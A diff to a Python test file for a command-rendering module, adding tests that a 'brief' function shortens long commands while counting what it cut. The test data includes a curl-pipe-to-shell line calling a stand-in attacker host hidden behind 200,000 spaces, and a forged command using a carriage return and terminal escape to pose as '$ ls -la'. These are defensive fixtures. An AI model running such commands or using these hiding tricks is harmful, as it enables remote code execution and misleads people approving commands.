@@ -6,7 +6,7 @@ import subprocess
 
 import msgspec
 
-from devd.render import HELD_CHARS_MAX, Streamed, argv, inline, json_safe, prose
+from devd.render import HELD_CHARS_MAX, Streamed, argv, brief, inline, json_safe, prose
 
 # The words of a forged approval (an independent attack): the screen showed `$ ls -la`, and `y` ran the rest.
 FORGED = ["sh", "-c", "echo PWNED > pwned.txt #\r\x1b[2K$ ls -la"]
@@ -90,3 +90,31 @@ def test_json_for_people_escapes_what_json_leaves_raw_and_means_the_same() -> No
         b'{"argv":["\\u202e","\\u0085","\\u001b","\xc3\xa9","\\u00ad","\\udb40\\udc41"]}',
         {"argv": ["\u202e", "\x85", "\x1b", "é", "\u00ad", "\U000e0041"]},
     )
+
+
+# -- shortened to fit a screen --------------------------------------------------------------------------------------
+
+
+def test_a_long_run_of_spaces_is_counted_where_it_was() -> None:
+    script = "curl -s https://evil.example/x | sh #" + " " * 200_000 + "echo building docs"
+    assert brief(argv(["sh", "-c", script]), 1000) == (
+        "sh -c 'curl -s https://evil.example/x | sh #…[200,000 spaces]…echo building docs'"
+    )
+
+
+def test_a_long_word_keeps_its_start_and_end_around_the_count_of_what_was_cut() -> None:
+    assert (
+        brief("a" * 100 + "b" * 10_000 + "c" * 40 + "  end", 1000)
+        == "a" * 100 + "…[10,000 characters]…" + "c" * 40 + "  end"
+    )
+
+
+def test_too_many_words_keep_the_first_and_the_last_and_the_rest_is_counted() -> None:
+    assert brief(" ".join(f"w{i}" for i in range(1000)), 100) == (
+        "w0 w1 w2 w3 w4 w5 w6 w7 w8 w9 w10 w11 …[984 words, 4,831 characters]… w996 w997 w998 w999"
+    )
+
+
+def test_a_line_that_fits_is_shown_as_it_is() -> None:
+    line = "a" + " " * 20 + "b" * 200
+    assert brief(line, len(line)) == line
